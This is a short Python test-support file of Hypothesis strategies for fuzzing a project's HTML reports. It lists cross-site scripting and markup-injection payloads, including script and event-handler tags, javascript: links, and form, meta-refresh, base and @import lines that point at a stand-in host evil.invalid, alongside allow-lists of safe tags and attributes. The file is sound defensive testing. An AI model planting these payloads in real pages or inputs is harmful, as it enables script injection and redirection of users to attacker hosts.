"""Text as attackers and bad extracts write it."""

from __future__ import annotations

from hypothesis import strategies as st

# Formula starts, separators, markup, controls, right-to-left marks.
NASTY = st.text(
    st.sampled_from("=+-@\t\r\n;,|'\"<>&`/ \u200b\ufeff\u202e\x00aZ0１＝＋éش\U0001f600"), max_size=40
) | st.text(max_size=40)

# Markup as it would be tried in a report's text, a name, a conditions field or a term of a model.
PAYLOADS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '"><svg onload=alert(1)>',
    "' onmouseover='alert(1)",
    "</textarea></style></div></pre><iframe src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>here</a>",
    "<form action=//evil.invalid><input type=submit>",
    "<meta http-equiv=refresh content=0;url=//evil.invalid>",
    "<link rel=stylesheet href=//evil.invalid>",
    "<base href=//evil.invalid>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<!--<img src='--><img src=x onerror=alert(1)//'>",
    "{{ 7 * 7 }}{% raw %}",
    "$\\href{javascript:alert(1)}{x}$",
    "<style>@import '//evil.invalid'</style>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\u202e<b>",
)
# What a page of ours is made of. Nothing here can run, load, send or lead away.
QUIET = set(
    "html head meta title style body div span p h1 h2 h3 b strong em i br mark table thead tbody tr th td dl dt dd ol"
    " ul li pre code details summary svg g line rect text path circle defs clippath use section nav h4"
    " main tfoot a".split()
)
ATTRIBUTES = set(
    "class style title colspan role aria-label lang charset http-equiv content name id viewbox width height x y x1 x2"
    " y1 y2 text-anchor stroke fill opacity d r cx cy transform clip-path href stroke-width stroke-dasharray"
    " stroke-opacity fill-opacity font-size font-weight rx".split()
)
